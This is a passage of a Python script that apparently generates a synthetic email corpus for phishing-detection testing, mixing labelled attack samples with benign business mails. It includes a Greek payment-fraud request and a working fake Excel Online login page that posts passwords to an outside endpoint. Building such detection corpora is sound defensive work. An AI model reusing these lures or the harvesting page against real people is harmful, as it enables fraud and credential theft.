    cy = iban("CY", "002" + "00128" + "0000001947318262")
    body = """Ελένη καλημέρα,

είσαι στο γραφείο; Χρειάζομαι να γίνει σήμερα μια πληρωμή προκαταβολής σε νέο συνεργάτη στην Κύπρο, για τη συμφωνία διανομής που κλείνουμε. Η Γερμανία το έχει εγκρίνει, απλώς δεν έχει ανακοινωθεί ακόμα, γι' αυτό μην το συζητήσεις με κανέναν προς το παρόν.

Δικαιούχος: Meridian Trade Solutions Ltd
IBAN: %s
Ποσό: 14.900,00 €
Αιτιολογία: Advance payment - distribution agreement 2027

Είμαι σε συνάντηση με πελάτη όλο το πρωί και δεν μπορώ να μιλήσω στο τηλέφωνο. Στείλε μου εδώ το αποδεικτικό μόλις γίνει.

Ευχαριστώ,
Νίκος

Στάλθηκε από το iPhone μου
""" % iban_fmt(cy)
    p = p_eop(key, sent, "olkn")
    root = text(body, "plain", "utf-8", "8bit")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "outlook.com", "selector1"), dmarc=("pass", "outlook.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("outlook.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["georgiou"]], subject="Πληρωμή σήμερα", root=root, mid=p["mid"],
                extra=[("X-Mailer", "iPhone Mail (22B91)")])


@A("40", "el", "invoice-html-excel-login", "iso-8859-7",
   "Invoice lure from a compromised Greek trading company's mailbox with an HTML attachment imitating an Excel Online viewer that asks for the Microsoft 365 password and posts it to an onrender.com endpoint.")
def a40(key):
    sent = t(1, "12:18:26", 120)
    rcpt = S["georgiou"][1]
    frm = ("Λογιστήριο - Θεσσαλική Εμπορική Α.Ε.", "logistirio@thessaliki-emporiki.gr")
    body = """Καλησπέρα σας,

σας αποστέλλουμε συνημμένα το τιμολόγιο ΤΔΑ-2026-1207 και την κατάσταση ανοιχτών υπολοίπων. Παρακαλούμε για την εξόφληση έως 10/12/2026.

Το έγγραφο ανοίγει απευθείας στον browser (Excel Online).

Με εκτίμηση,
Λογιστήριο
Θεσσαλική Εμπορική Α.Ε.
26ης Οκτωβρίου 54, 546 27 Θεσσαλονίκη
Τηλ. 2310 553 210
"""
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Excel Online - ΤΔΑ-2026-1207.xlsx</title>
<style>body{margin:0;font-family:'Segoe UI',Arial,sans-serif}.bg{position:fixed;inset:0;background:#f3f3f3 repeating-linear-gradient(0deg,#fff 0,#fff 20px,#e6e6e6 21px);filter:blur(3px)}
.box{position:relative;width:380px;margin:120px auto;background:#fff;padding:32px;box-shadow:0 4px 16px rgba(0,0,0,.25)}
.box h3{color:#217346;margin-top:0}input{width:100%;padding:8px;margin:6px 0 12px;border:1px solid #999;box-sizing:border-box}button{background:#217346;color:#fff;border:0;padding:9px 24px}</style></head>
<body><div class="bg"></div><div class="box"><h3>Excel Online</h3>
<p>Το έγγραφο <b>ΤΔΑ-2026-1207.xlsx</b> προστατεύεται. Συνδεθείτε με τον λογαριασμό email σας για να το προβάλετε.</p>
<form id="f" method="post" action="https://docs-view-4a1e.onrender.com/submit">
<input name="u" type="email" value="e.georgiou@examplegroup.eu"><input name="p" type="password" placeholder="Κωδικός πρόσβασης">
<button type="submit">Προβολή εγγράφου</button></form></div>
<script>document.getElementById('f').addEventListener('submit',function(){document.querySelector('button').innerText='...';});</script>
</body></html>
"""
    root = multi("mixed", [text(body, "plain", "iso-8859-7", "base64"),
                           att(page.encode("utf-8"), "text/html", "ΤΔΑ-2026-1207.html", extra_ct="; charset=utf-8")], bnd("tb", key))
    hop = ("mail.thessaliki-emporiki.gr", "mail.thessaliki-emporiki.gr", "185.4.132.57", "1.2")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "thessaliki-emporiki.gr", "default"), dmarc=("pass", "thessaliki-emporiki.gr", "none"))
    chain = ["from [10.0.0.23] (unknown [102.89.44.210])%s\t(Authenticated sender: logistirio@thessaliki-emporiki.gr)%s\tby mail.thessaliki-emporiki.gr (Postfix) with ESMTPSA id 3A1F22C0B7%s\tfor <%s>; %s" % (
        CRLF, CRLF, CRLF, rcpt, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("thessaliki-emporiki.gr", "default", "from:to:subject:date:message-id"),
                frm=frm, to=[S["georgiou"]], subject="Τιμολόγιο ΤΔΑ-2026-1207 - εκκρεμής εξόφληση",
                subj_cs="iso-8859-7", subj_enc="B", root=root, mid=msgid_generic(key, "thessaliki-emporiki.gr", "uuid"),
                extra=[("User-Agent", "Mozilla Thunderbird")])

# ===========================================================================
# BUSINESS messages
# ===========================================================================

@B("01", "en", "github-ssh-key-added", "utf-8",
   "Genuine GitHub security notification to the IT security admin that a new SSH key was added to his account, with links only to github.com.")
def b01(key):
    sent = t(1, "08:12:40", 0)
    rcpt = S["neumann"][1]
    fp = "SHA256:" + b64blob(32, "fp", key).rstrip("=")
    plain = """Hey fneumann-exg!

The following SSH key was added to your account:

nbg-nb-0217 (Ubuntu 24.04)
%s

If you believe this key was added in error, you can remove the key and disable access at the following location:

https://github.com/settings/keys

Thanks,
The GitHub Team

---
You're receiving this email because a new SSH key was added to your GitHub account.

GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107
""" % fp
    htm = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Helvetica,Arial,sans-serif;font-size:14px;color:#24292f">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center"><table width="544" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 0"><img src="https://github.githubassets.com/images/email/global/octocat-logo.png" width="32" height="32" alt="GitHub"></td></tr>
<tr><td style="font-size:24px;padding-bottom:12px">[GitHub] A new SSH authentication public key was added to your account</td></tr>
<tr><td style="border:1px solid #d0d7de;border-radius:6px;padding:24px">
<p>Hey fneumann-exg!</p><p>The following SSH key was added to your account:</p>
<p><b>nbg-nb-0217 (Ubuntu 24.04)</b><br><code>%s</code></p>
<p>If you believe this key was added in error, you can remove the key and disable access at the following location:</p>
<p><a href="https://github.com/settings/keys">https://github.com/settings/keys</a></p><p>Thanks,<br>The GitHub Team</p></td></tr>
<tr><td style="padding:16px 0;color:#6e7781;font-size:12px">You're receiving this email because a new SSH key was added to your GitHub account.<br>GitHub, Inc. &#12539;88 Colin P Kelly Jr Street &#12539;San Francisco, CA 94107</td></tr>
</table></td></tr></table></body></html>""" % fp
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")],
                 "--==_mimepart_%s_%d" % (hexid(13, "gh", key), 1000 + _n(key, 9000)), )
    hop = ("out-25.smtp.github.com", "out-25.smtp.github.com", "192.30.252.208", "1.3")
    ar = auth_res(spf=("pass", "noreply@github.com", hop[2]), dkim=("pass", "github.com", "pf2023"), dmarc=("pass", "github.com", "reject"))
    chain = ["from github.com (hubbernetes-node-%s.ac4-iad.github.net [10.52.%d.%d])%s\tby smtp.github.com (Postfix) with ESMTPA id 4dKq%s%s\tfor <%s>; %s" % (
        hexid(6, "hn", key), _n(key, 200), _n(key, 250, "x"), CRLF, alnum(8, "gq", key), CRLF, rcpt, sent.shift(-1, -480).rfc())]
    return mail(key, rp="noreply@github.com", rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("github.com", "pf2023", "date:from:to:subject:from"),
                frm=("GitHub", "noreply@github.com"), to=[("Florian Neumann", rcpt)],
                subject="[GitHub] A new SSH authentication public key was added to your account", root=root,
                mid="<%s@github.com>" % ("ssh_key_added/" + hexid(24, "gm", key)).replace("/", "-"),
                extra=[("X-Auto-Response-Suppress", "All"), ("X-GitHub-Reason", "security")])


@B("02", "en", "linkedin-recruiter-inmail", "utf-8",
   "Genuine LinkedIn InMail notification from an executive-search recruiter approaching the Head of IT about a role, full of linkedin.com tracking links.")
def b02(key):
    sent = t(2, "11:37:09", 0)
    rcpt = S["wagner"][1]
    tid = "2-" + b64blob(30, "tid", key).replace("/", "_").replace("+", "-").rstrip("=")

    def li(path, i):
        return "https://www.linkedin.com/comm/%s?lipi=urn%%3Ali%%3Apage%%3Aemail_email_inmail_single_01%%3B%s&midToken=AQ%s&midSig=%s&trk=eml-email_inmail_single_01-%d&trkEmail=eml-email_inmail_single_01-%d-null-%s" % (
            path, b64blob(15, "lipi", key, i).replace("/", "%2F").replace("+", "%2B").replace("=", "%3D"), alnum(20, "mt", key), alnum(22, "ms", key), i, i, alnum(5, "tr", key, i))
    plain = """Sophie Turner
Partner, Technology Practice at Hartmann Executive Search

Head of IT Infrastructure (m/f/d) - Munich

Hi Thomas,

I hope this finds you well. I'm working with a privately held European logistics group (c. 4,000 staff, 11 countries) on the appointment of a Head of IT Infrastructure based in Munich. Your background running IT for a multi-country operation with a strong security focus looks like a very close fit.

The role reports to the Group CIO and covers data centre exit, network and cloud platforms and a team of 35. Compensation is competitive and the company offers flexible working.

Would you be open to a confidential 20-minute conversation next week? Happy to share more detail before then.

Best regards,
Sophie

Reply: %s

This is an InMail from a LinkedIn member. You are receiving InMail notification emails.
Unsubscribe: %s
Help: https://www.linkedin.com/help/linkedin/answer/67?lang=en

(c) 2026 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.
LinkedIn and the LinkedIn logo are registered trademarks of LinkedIn.
""" % (li("messaging/thread/" + tid, 1), li("psettings/email-unsubscribe", 9))
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="background:#f3f2ef;margin:0">
<table width="512" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:-apple-system,system-ui,Arial,sans-serif">
<tr><td style="padding:24px"><a href="%s"><img src="https://static.licdn.com/aero-v1/sc/h/9ehe6n39fa07dc5edzv0rla4e" alt="LinkedIn" width="84"></a></td></tr>
<tr><td style="padding:0 24px"><table><tr><td><img src="https://media.licdn.com/dms/image/v2/%s/profile-displayphoto-shrink_100_100/0/" width="56" height="56" style="border-radius:50%%"></td>
<td style="padding-left:12px"><b>Sophie Turner</b><br><span style="color:#666;font-size:13px">Partner, Technology Practice at Hartmann Executive Search</span></td></tr></table></td></tr>
<tr><td style="padding:16px 24px;font-size:14px;line-height:20px"><p style="font-size:16px"><b>Head of IT Infrastructure (m/f/d) &ndash; Munich</b></p>
<p>Hi Thomas,</p><p>I hope this finds you well. I'm working with a privately held European logistics group (c. 4,000 staff, 11 countries) on the appointment of a Head of IT Infrastructure based in Munich. Your background running IT for a multi-country operation with a strong security focus looks like a very close fit.</p>
<p>The role reports to the Group CIO and covers data centre exit, network and cloud platforms and a team of 35. Compensation is competitive and the company offers flexible working.</p>
<p>Would you be open to a confidential 20-minute conversation next week? Happy to share more detail before then.</p><p>Best regards,<br>Sophie</p>
<p><a href="%s" style="background:#0a66c2;color:#fff;padding:8px 20px;border-radius:20px;text-decoration:none">Reply</a></p></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#666">This is an InMail from a LinkedIn member. <a href="%s" style="color:#666">Unsubscribe</a> &middot; <a href="https://www.linkedin.com/help/linkedin/answer/67" style="color:#666">Help</a><br>&copy; 2026 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.</td></tr>
</table><img src="https://www.linkedin.com/emimp/ip_%s.gif" width="1" height="1" alt=""></body></html>""" % (
        li("feed/", 2), alnum(16, "img", key), li("messaging/thread/" + tid, 1), li("psettings/email-unsubscribe", 9), b64blob(60, "emimp", key).replace("/", "_").replace("+", "-").rstrip("="))
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")],
                 "----=_Part_%d_%d.%d" % (2000000 + _n(key, 900000), _n(key, 999999999, "x"), 1796211429000 + _n(key, 999)))
    hop = ("mailb-dc.linkedin.com", "mailb-dc.linkedin.com", "108.174.3.211", "1.3")
    rp = "s-%s@bounce.linkedin.com" % alnum(40, "rp", key, alphabet="abcdefghijklmnopqrstuvwxyz0123456789")
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "linkedin.com", "d2048-2"), dmarc=("pass", "linkedin.com", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("linkedin.com", "d2048-2", "subject:mime-version:content-type:to:from:date:message-id"),
                frm=("Sophie Turner via LinkedIn", "inmail-hit-reply@linkedin.com"), to=[("Thomas Wagner", rcpt)],
                subject="Head of IT Infrastructure (m/f/d) \u2013 Munich", root=root,
                mid="<%s@ltx1-app%d.prod.linkedin.com>" % (alnum(20, "m", key), 1000 + _n(key, 8000)),
                extra=[("X-LinkedIn-Class", "INMAIL"), ("X-LinkedIn-Template", "email_inmail_single_01"),
                       ("X-LinkedIn-fbl", b64blob(60, "fbl", key)), ("X-LinkedIn-Id", alnum(10, "lid", key)),
                       ("List-Unsubscribe", "<%s>" % li("psettings/email-unsubscribe", 9)), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")])


def docusign_mail(key, sent, rcpt_name, rcpt, sender_name, sender_email, doc, note, sig_line):
    link = "https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (
        hexid(8, "a", key) + "-" + hexid(4, "b", key) + "-" + hexid(4, "c", key) + "-" + hexid(4, "d", key) + "-" + hexid(12, "e", key),
        hexid(8, "acct", key) + "-" + hexid(4, "acct2", key) + "-4c7d-b1f0-" + hexid(12, "acct3", key),
        hexid(8, "er", key) + "-" + hexid(4, "er2", key) + "-4e58-9d03-" + hexid(12, "er3", key))
    code = hexid(32, "code", key).upper()
    plain = """%s sent you a document to review and sign.

REVIEW DOCUMENT
%s

%s
%s

%s

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.

This message was sent to you by %s who is using the Docusign Electronic Signature Service.
""" % (sender_name, link, sender_name, sender_email, note, code, sender_name)
    htmlb = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="padding:0;margin:0;background:#eaeaea">
<table style="width:100%%;background:#eaeaea" cellpadding="0" cellspacing="0"><tr><td style="padding:24px">
<table style="max-width:640px;margin:0 auto;background:#ffffff" cellpadding="0" cellspacing="0">
<tr><td style="padding:10px 24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="Docusign" width="116" height="34"></td></tr>
<tr><td style="padding:0 24px"><table style="width:100%%;background:#1e1656;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td style="padding:28px 24px;text-align:center;font-family:Helvetica,Arial,sans-serif">
<p style="font-size:16px;line-height:24px">%s sent you a document to review and sign.</p>
<a href="%s" style="display:inline-block;background:#ffc820;color:#130c49;font-weight:bold;font-size:15px;padding:12px 24px;border-radius:2px;text-decoration:none">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:24px;font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#000000;line-height:22px">
<b>%s</b><br><a href="mailto:%s" style="color:#2463d1">%s</a><br><br>%s</td></tr>
<tr><td style="padding:24px;background:#eaeaea;font-family:Helvetica,Arial,sans-serif;font-size:12px;color:#666666;line-height:18px">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: %s<br><br>
This message was sent to you by %s who is using the Docusign Electronic Signature Service.</td></tr>
</table></td></tr></table></body></html>
""" % (_x(sender_name), link, _x(sender_name), sender_email, sender_email, _x(note).replace("\n", "<br>"), code, _x(sender_name))
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htmlb, "utf-8", "quoted-printable")], bnd("javamail", key))
    hop = ("mailfr2.eu.docusign.net", "mailfr2.eu.docusign.net", "185.81.102.38", "1.2")
    rp = "bounces+%s@eumail.docusign.net" % hexid(20, "bnc", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "docusign.net", "s1"), dmarc=("pass", "docusign.net", "reject"))
    env = "%s-%s-%s-%s-%s" % (hexid(8, "e1", key).upper(), hexid(4, "e2", key).upper(), hexid(4, "e3", key).upper(), hexid(4, "e4", key).upper(), hexid(12, "e5", key).upper())
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("docusign.net", "s1", "from:to:subject:message-id:date:mime-version:content-type:reply-to"),
                frm=("%s via Docusign" % sender_name.split(" - ")[0], "dse@eumail.docusign.net"), to=[(rcpt_name, rcpt)],
                reply_to=(sig_line, sender_email), subject="Complete with Docusign: %s" % doc, root=root,
                mid="<%s@docusign.net>" % hexid(32, "mid", key),
                extra=[("X-DocuSign-Envelope-ID", env), ("X-Auto-Response-Suppress", "All")])


@B("03", "en", "docusign-lease-renewal", "utf-8",
   "Genuine DocuSign envelope from the landlord's solicitors asking the UK operations manager to sign a warehouse lease renewal.")
def b03(key):
    note = ("Dear James,\n\nPlease find the lease renewal for Unit 4, Westinghouse Road, Trafford Park for signature on behalf of Example Group UK Ltd. "
            "The landlord has already signed. The terms are as agreed in our call on 24 November (5-year term, break at year 3).\n\n"
            "Kind regards,\nEmma Hartley\nAssociate Solicitor, Hartley Brooks LLP")
    return docusign_mail(key, t(2, "14:02:31", 0), "James Whitfield", S["whitfield"][1], "Hartley Brooks LLP", "e.hartley@hartleybrooks.co.uk",
                         "Unit 4 Trafford Park - Lease Renewal 2027.pdf", note, "Emma Hartley")


@B("04", "en", "internal-it-authenticator-qr", "utf-8",
   "Internal IT Service Desk announcement via mail-int01 about moving to passkeys in Microsoft Authenticator, with an inline QR code to the official aka.ms/authapp download and an explicit 'we never ask for your password' note.")
def b04(key):
    sent = t(30, "15:20:11", 0)
    frm = S["bennett"]
    to = who("whitfield", "collins")
    rcpt = to[0][1]
    png = qr_png("https://aka.ms/authapp", scale=5, ecl="M")
    cid = "image001.png@01DB4A2C.%s" % hexid(8, "cid", key).upper()
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body lang="EN-GB" style="font-family:Aptos,Calibri,sans-serif;font-size:11pt">
<p>Hi all,</p>
<p>From <b>Monday 7 December</b> we are switching Example Group accounts in the UK office to <b>passkeys in Microsoft Authenticator</b> (phase 2 of the MFA project; Nürnberg and Wrocław moved in November).</p>
<p><b>What you need to do:</b> nothing before Monday. When you next sign in from your laptop you will get a prompt to create a passkey &ndash; follow the steps on screen. It takes about two minutes.</p>
<p>If you don't have the Microsoft Authenticator app on your work phone yet, scan this code with the phone camera. It opens the official App Store / Google Play page (aka.ms/authapp):</p>
<p><img src="cid:%s" width="185" height="185" alt="QR code: aka.ms/authapp"></p>
<p><b>Please remember:</b> IT will never ask for your password by email, phone or Teams, and we will never ask you to approve a sign-in you didn't start. If something looks odd, use the <i>Report</i> button in Outlook or call us.</p>
<p>Drop-in help: Manchester office, meeting room 2, Tuesday 8 December 10:00&ndash;12:00. Guide on the intranet: <a href="https://intranet.example.com/it/mfa-passkeys">https://intranet.example.com/it/mfa-passkeys</a></p>
<p>Thanks,<br>Oliver</p>
<p style="font-size:9pt;color:#555">Oliver Bennett<br>IT Service Desk | Example Group UK Ltd<br>Ext. 4410 | +44 161 496 0410 | servicedesk@example.com</p>
</body></html>""" % cid
    plain = """Hi all,

From Monday 7 December we are switching Example Group accounts in the UK office to passkeys in Microsoft Authenticator (phase 2 of the MFA project; Nürnberg and Wrocław moved in November).

What you need to do: nothing before Monday. When you next sign in from your laptop you will get a prompt to create a passkey - follow the steps on screen. It takes about two minutes.

If you don't have the Microsoft Authenticator app on your work phone yet, install it from https://aka.ms/authapp (QR code in the HTML version of this mail).

Please remember: IT will never ask for your password by email, phone or Teams, and we will never ask you to approve a sign-in you didn't start. If something looks odd, use the Report button in Outlook or call us.

Drop-in help: Manchester office, meeting room 2, Tuesday 8 December 10:00-12:00. Guide on the intranet: https://intranet.example.com/it/mfa-passkeys

Thanks,
Oliver

Oliver Bennett
IT Service Desk | Example Group UK Ltd
Ext. 4410 | +44 161 496 0410 | servicedesk@example.com
"""
    rel = multi("related", [html(body, "utf-8", "base64"), inline_img(png, "image/png", "image001.png", cid)], bnd("outlook", key, "rel"), extra='; type="text/html"')
    root = multi("alternative", [text(plain, "plain", "utf-8", "base64"), rel], bnd("outlook", key))
    p = p_internal(key, sent, "en-GB", False, "Microsoft Authenticator: moving to passkeys from Monday 7 December")
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar_internal(frm[1]), chain=p["chain"],
                frm=frm, to=to, cc=[("IT Service Desk", "servicedesk@example.com")],
                subject="Microsoft Authenticator: moving to passkeys from Monday 7 December", root=root, mid=p["mid"], extra=p["extra"])


@B("05", "en", "payroll-bureau-encrypted-zip", "windows-1252",
   "External payroll bureau sending the November payroll reports as a password-protected ZIP (ZipCrypto, CSV inside) with the agreed password stated in the mail body.")
def b05(key):
    sent = t(2, "16:45:02", 0)
    rcpt = S["collins"][1]
    frm = ("Priya Shah", "priya.shah@castlegatepayroll.co.uk")
    pwd = "Cg-EXG01-Nov26"
    body = """Dear Sarah,

Please find attached the November 2026 payroll reports for Example Group UK Ltd (payroll reference EXG01):

 \u2022 Gross to Net summary
 \u2022 P32 employer payment record
 \u2022 Pension contributions (NEST)
 \u2022 BACS payment schedule

As agreed with you in October, the reports are sent as an encrypted ZIP until the new client portal goes live in January. The password for this month's file is:

%s

The BACS submission has been made for a payment date of Friday 4 December 2026. The PAYE/NIC liability for period 8 is \u00a338,412.67, due to HMRC by 22 December.

Please let me know if you have any queries.

Kind regards,

Priya Shah
Payroll Specialist
Castlegate Payroll Bureau Ltd
Castlegate House, 14 Deansgate, Manchester M3 2BY
T: 0161 496 0533

Castlegate Payroll Bureau Ltd is registered in England and Wales, company no. 08841273. This email and any attachments are confidential and intended solely for the addressee.
""" % pwd
    g2n = "Employee No,Name,Department,Gross Pay,Tax,Employee NI,Pension EE,Net Pay\r\n"
    names = ["J Whitfield", "S Collins", "O Bennett", "A Patel", "M Roberts", "K Lewis", "D Hughes", "L Evans", "R Khan", "T Wright"]
    for i, n in enumerate(names):
        gross = 2400 + (int(hexid(4, "g", key, i), 16) % 3200)
        tax = round(gross * 0.14, 2)
        ni = round(gross * 0.06, 2)
        pen = round(gross * 0.05, 2)
        g2n += "EXG%03d,%s,%s,%.2f,%.2f,%.2f,%.2f,%.2f\r\n" % (101 + i, n, ["Operations", "Finance", "IT", "Warehouse"][i % 4], gross, tax, ni, pen, gross - tax - ni - pen)
    p32 = "Tax Month,Period,PAYE,Employee NI,Employer NI,Total Due\r\n8,Nov 2026,16204.33,7391.20,14817.14,38412.67\r\n"
    z = mkzip_encrypted([("EXG01_Nov2026_GrossToNet.csv", g2n), ("EXG01_Nov2026_P32.csv", p32)], pwd, when=(2026, 12, 2, 16, 31, 8))
    p = p_eop(key, sent, "gbr")
    root = multi("mixed", [text(body, "plain", "windows-1252", "quoted-printable"),
                           att(z, "application/x-zip-compressed", "EXG01_Payroll_Reports_Nov2026.zip", style="2047")], bnd("outlook", key))
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "castlegatepayroll.co.uk", "selector1"), dmarc=("pass", "castlegatepayroll.co.uk", "quarantine"))
    subj = "Example Group UK Ltd (EXG01) \u2013 November 2026 payroll reports"
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("castlegatepayroll.co.uk", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["collins"]], subject=subj, subj_cs="windows-1252", subj_enc="Q", root=root, mid=p["mid"],
                extra=eop_extra(p, "en-GB", True, subj))


@B("06", "en", "out-of-office-autoreply", "us-ascii",
   "Exchange Online out-of-office auto-reply from a UK distribution customer to the UK operations manager, with Auto-Submitted headers.")
def b06(key):
    sent = t(3, "10:31:17", 0)
    rcpt = S["whitfield"][1]
    frm = ("Richard Hale", "r.hale@northpoint-distribution.co.uk")
    body = """Thank you for your email.

I am out of the office until Monday 7 December with limited access to email.

For urgent transport or booking matters please contact our planning team on planning@northpoint-distribution.co.uk or 0161 496 0800.

Kind regards,
Richard Hale
Transport Manager | Northpoint Distribution Ltd
"""
    p = p_eop(key, sent, "gbr")
    root = text(body, "plain", "us-ascii", "7bit")
    orig = "<%s@EXG-MBX01.corp.example.com>" % alnum(32, "o", key, alphabet="0123456789abcdef")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "northpoint-distribution.co.uk", "selector1"), dmarc=("pass", "northpoint-distribution.co.uk", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("northpoint-distribution.co.uk", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version"),
                frm=frm, to=[S["whitfield"]], subject="Automatic reply: Delivery schedule w/c 7 December", root=root, mid=p["mid"],
                irt=orig, refs=orig,
                extra=[("Thread-Topic", "Delivery schedule w/c 7 December"), ("Auto-Submitted", "auto-replied"),
                       ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", frm[1]), ("Content-Language", "en-GB")])


@B("07", "en", "newsletter-mailchimp", "utf-8",
   "Weekly supply-chain industry newsletter delivered via Mailchimp with list headers, click-tracking redirects and a tracking pixel, to a subscribed manager.")
def b07(key):
    sent = t(3, "07:00:12", 0)
    rcpt = S["whitfield"][1]
    frm = ("Supply Chain Insider", "newsletter@supplychaininsider.co.uk")
    u = hexid(25, "u", key)

    def trk(i):
        return "https://supplychaininsider.us21.list-manage.com/track/click?u=%s&id=%s&e=%s" % (u, hexid(10, "id", key, i), hexid(10, "e", key))
    items = [("Red Sea transits edge up as carriers test Suez return", "Three of the top five container lines have scheduled trial Suez transits for January, but insurers remain cautious and Asia\u2013North Europe rates are still 40% above 2023 levels."),
             ("Border Target Operating Model: what changes in 2027", "Defra confirms the next phase of SPS checks on medium-risk goods from the EU. We look at what importers need to have in place by 31 January."),
             ("Warehouse automation: the ROI question", "A survey of 212 UK warehouse operators finds payback periods for AMR deployments have fallen to 2.7 years, with labour availability the main driver."),
             ("Driver CPC reforms out for consultation", "DfT proposes a more flexible periodic training regime; the consultation closes on 15 January.")]
    plain = "SUPPLY CHAIN INSIDER \u2013 Weekly Briefing, 3 December 2026\n\nView this email in your browser: %s\n\n" % trk(0)
    hb = ""
    for i, (h, s) in enumerate(items, 1):
        plain += "%s\n%s\nRead more: %s\n\n" % (h.upper(), s, trk(i))
        hb += '<tr><td style="padding:14px 24px;border-bottom:1px solid #e6e6e6"><a href="%s" style="color:#0b4f6c;font-size:18px;font-weight:bold;text-decoration:none">%s</a><p style="margin:6px 0 0 0;font-size:14px;line-height:21px;color:#333">%s</p></td></tr>\n' % (trk(i), _x(h), _x(s))
    plain += """EVENTS
Multimodal 2027, NEC Birmingham, 15\u201317 June. Early-bird registration now open.

You are receiving this email because you subscribed at supplychaininsider.co.uk.
Update your preferences: https://supplychaininsider.us21.list-manage.com/profile?u=%s&id=%s&e=%s
Unsubscribe: https://supplychaininsider.us21.list-manage.com/unsubscribe?u=%s&id=%s&e=%s

Supply Chain Insider Ltd \u00b7 71 Shudehill \u00b7 Manchester M4 4AN \u00b7 United Kingdom
""" % (u, hexid(10, "pid", key), hexid(10, "e", key), u, hexid(10, "pid", key), hexid(10, "e", key))
    htm = """<!doctype html><html><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Weekly Briefing</title></head>
<body style="margin:0;background:#f0f3f5"><center><table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Georgia,serif">
<tr><td style="padding:8px 24px;font-size:11px;font-family:Arial"><a href="%s" style="color:#888">View this email in your browser</a></td></tr>
<tr><td style="background:#0b4f6c;padding:22px 24px;color:#fff;font-size:26px">Supply Chain Insider<br><span style="font-size:13px;font-family:Arial">Weekly Briefing &middot; 3 December 2026</span></td></tr>
%s<tr><td style="padding:14px 24px;font-family:Arial;font-size:13px"><b>EVENTS</b><br>Multimodal 2027, NEC Birmingham, 15&ndash;17 June. Early-bird registration now open.</td></tr>
<tr><td style="padding:18px 24px;font-family:Arial;font-size:11px;color:#888">You are receiving this email because you subscribed at supplychaininsider.co.uk.<br>
<a href="https://supplychaininsider.us21.list-manage.com/profile?u=%s" style="color:#888">Update preferences</a> &middot; <a href="https://supplychaininsider.us21.list-manage.com/unsubscribe?u=%s" style="color:#888">Unsubscribe</a><br>
Supply Chain Insider Ltd &middot; 71 Shudehill &middot; Manchester M4 4AN &middot; United Kingdom</td></tr></table></center>
<img src="https://supplychaininsider.us21.list-manage.com/track/open.php?u=%s&id=%s&e=%s" height="1" width="1" alt=""></body></html>""" % (
        trk(0), hb, u, u, u, hexid(10, "oid", key), hexid(10, "e", key))
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")],
                 "_----------=_MCPart_%d" % (100000000 + _n(key, 899999999)))
    hop = ("mail141.suw121.mcdlv.net", "mail141.suw121.mcdlv.net", "198.2.180.141", "1.3")
    rp = "bounce-mc.us21_%d.%d-%s@mail141.suw121.mcdlv.net" % (81234567, 5678901 + _n(key, 1000), rcpt.replace("@", "="))
